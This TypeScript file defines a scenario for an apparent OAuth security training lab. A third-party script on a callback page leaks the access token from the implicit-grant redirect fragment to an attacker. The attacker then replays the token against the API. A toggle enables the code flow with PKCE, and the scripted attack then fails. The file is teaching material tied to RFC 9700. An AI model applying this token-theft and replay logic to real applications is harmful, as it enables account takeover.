/**
 * Implicit flow token leakage: the access token itself comes back in the URL fragment, where
 * every script on the page (and the history, and whoever looks at the address) can read it.
 * @see [RFC 9700 §4.1.2](https://www.rfc-editor.org/rfc/rfc9700#section-4.1.2)
 * @see [RFC 9700 §2.1.2](https://www.rfc-editor.org/rfc/rfc9700#section-2.1.2)
 */
import { rfc } from '../shared/spec-links.ts'
import { attackActors, defineAttack, ServerRefusal } from './attack-model.ts'
import {
  callApi,
  callbackUri,
  discoverServer,
  landedOn,
  publicClient,
  signIn,
  startLogin,
  stolenToken,
  waitForAttackerRecord,
} from './lab-client.ts'

const attackId = 'implicit-token-leakage'
const scope = 'profile email orders:read'

export const implicitTokenLeakageAttack = defineAttack({
  id: attackId,
  title: 'Implicit flow token leakage',
  goal: 'Pick up the victim’s access token from the address her browser comes back to, and use it.',
  summary:
    'With the implicit grant the access token travels in the fragment of the redirect. Alice signs in, and a third-party script on the app’s callback page sends the address home, token included. The same address also sits in her browser history and in the address bar. With the authorization code flow and PKCE, the same leak gives the attacker only a code he cannot redeem.',
  specs: [rfc(9700, '2.1.2'), rfc(9700, '4.1.2'), rfc(9700, '4.3.2'), rfc(6749, '10.16')],
  actors: [
    attackActors.victim,
    attackActors.attacker,
    attackActors.client,
    attackActors.as,
    attackActors.rs,
  ],
  callbackEmbedsThirdPartyScript: true,
  defence: {
    label: 'Defence: code flow with PKCE instead of the implicit grant',
    explanation:
      'The app uses the authorization code grant with PKCE: the redirect carries a short-lived, single-use code, and the tokens come from a direct request to the token endpoint with the verifier only the app holds. A leaked code is useless to anyone else: the server refuses it without the verifier.',
    spec: rfc(9700, '2.1.2'),
    side: 'client',
    whenOff:
      'The app is grantlab-lab-implicit, a legacy demo client allowed response_type=token (the implicit grant, deprecated by RFC 9700 §2.1.2); oauth4webapi has no API for it, so the fragment is read by hand.',
  },
  clients: [
    {
      clientId: 'grantlab-lab-implicit',
      when: 'defence-off',
      note: 'Legacy: uses the deprecated implicit grant (response_type=token).',
    },
    {
      clientId: 'grantlab-lab-spa',
      when: 'defence-on',
      note: 'A public, first-party app using the code flow with PKCE.',
    },
  ],
  steps: [
    {
      id: 'victim-signs-in',
      label: 'alice signs in',
      title: 'Alice signs in; the browser comes back to the callback page',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '4.2.2'),
      explanation:
        'With the implicit grant the address is "…/callback#access_token=…&token_type=Bearer&…". With the code flow it is "…/callback?code=…&state=…&iss=…".',
    },
    {
      id: 'script-leaks',
      label: 'script sends the address home',
      title: 'A third-party script on the callback page sends the address to the attacker',
      from: 'victim',
      to: 'attacker',
      kind: 'request',
      spec: rfc(9700, '4.3.2'),
      explanation:
        'The fragment is never sent to a server by the browser, but any script on the page reads it. The app’s analytics script sends the whole address to its owner.',
    },
    {
      id: 'attacker-redeems',
      label: 'a code? POST /token without verifier',
      title: 'If it is a code, the attacker tries to redeem it',
      from: 'attacker',
      to: 'as',
      kind: 'request',
      spec: rfc(7636, '4.6'),
      explanation:
        'A token needs no redeeming. A code does, and the app is public, so the attacker can send it with the client_id, but he has no verifier.',
    },
    {
      id: 'attacker-uses',
      label: 'GET /api/profile as alice',
      title: 'The attacker calls the API with the token',
      from: 'attacker',
      to: 'rs',
      kind: 'request',
      spec: rfc(6750, '2.1'),
      explanation: 'A bearer token works for whoever holds it.',
    },
  ],
  async run(ctx) {
    const redirectUri = callbackUri(ctx.appOrigin, attackId)
    const since = ctx.now()
    const { as, returned } = await ctx.step('victim-signs-in', async (s) => {
      const as = await discoverServer(s, ctx.issuer)
      // DEFENCE: the code flow with PKCE. Off: the implicit grant, built by hand (no oauth4webapi
      // API exists for it), with state and nothing else.
      const login = await startLogin(as, {
        clientId: ctx.defence ? 'grantlab-lab-spa' : 'grantlab-lab-implicit',
        redirectUri,
        scope,
        responseType: ctx.defence ? 'code' : 'token',
        state: true,
        pkce: ctx.defence,
        prompt: 'login',
      })
      const page = await signIn(ctx.victim, await ctx.victim.open(login.url, s), s, 'alice')
      const returned = landedOn(page, 'the client’s callback')
      s.show({ label: 'Where Alice’s browser came back', value: returned.href })
      s.summary(
        returned.hash.includes('access_token=')
          ? 'The access token is in the address, after the #.'
          : 'The address carries a code, not a token.',
      )
      return { as, returned }
    })
    const leaked = await ctx.step('script-leaks', async (s) => {
      const record = await waitForAttackerRecord(
        s,
        ctx.attackerOrigin,
        since,
        // Of the attacker's records, this run's: the lab knows where Alice's browser landed.
        (r) => r.channel === 'script' && r.page === returned.href,
      )
      const address = new URL(record.page ?? '')
      s.show({ label: 'What the attacker’s server received', value: address.href })
      s.summary('The attacker has the address Alice’s browser came back to.')
      return address
    })
    const accessToken = await ctx.step('attacker-redeems', async (s) => {
      const token = new URLSearchParams(leaked.hash.slice(1)).get('access_token')
      if (token) {
        s.summary('Nothing to redeem: the address held the access token itself.')
        return token
      }
      const code = leaked.searchParams.get('code') ?? ''
      const app = publicClient('grantlab-lab-spa')
      const response = await s.fetch(String(as.token_endpoint), {
        method: 'POST',
        body: new URLSearchParams({
          grant_type: 'authorization_code',
          code,
          redirect_uri: redirectUri,
          client_id: app.client.client_id,
        }),
      })
      const body = (await response.json()) as {
        access_token?: string
        error?: string
        error_description?: string
      }
      if (!response.ok || !body.access_token) {
        const refused = new ServerRefusal(
          body.error ?? String(response.status),
          body.error_description ?? '',
          response.status,
          'at the token endpoint',
        )
        throw ctx.stopped(refused, {
          check: 'PKCE code_verifier',
          spec: rfc(7636, '4.6'),
          by: 'authorization server',
          expected: { code: 'invalid_grant', text: /code_verifier is required/ },
        })
      }
      s.summary('The server exchanged the code without a verifier.')
      return body.access_token
    })
    const profile = await ctx.step('attacker-uses', async (s) => {
      const answer = await callApi(s, ctx.appOrigin, '/api/profile', accessToken)
      s.show({ label: 'The API’s answer', value: JSON.stringify(answer.body), format: 'json' })
      s.summary(`The API answered ${answer.status} with Alice’s profile.`)
      return answer.body
    })
    return {
      status: 'succeeded',
      summary: 'The access token leaked with the address and works for the attacker.',
      loot: {
        summary: 'Alice’s access token, read from the fragment by a script on the page.',
        tokens: [stolenToken('Alice’s access token, from the fragment', accessToken)],
        values: [
          { label: 'Alice’s profile', value: JSON.stringify(profile), format: 'json' },
          { label: 'The leaked address', value: leaked.href },
        ],
      },
    }
  },
})
